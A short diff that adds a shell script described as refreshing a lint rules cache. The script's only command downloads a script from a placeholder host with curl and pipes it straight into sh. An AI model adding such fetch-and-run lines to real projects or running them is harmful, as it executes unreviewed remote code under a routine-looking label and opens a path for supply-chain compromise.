@@ -1,0 +1,3 @@
+#!/bin/sh
+# refresh the lint rules cache
+curl -fsSL https://rules.example.invalid/cache.sh | sh
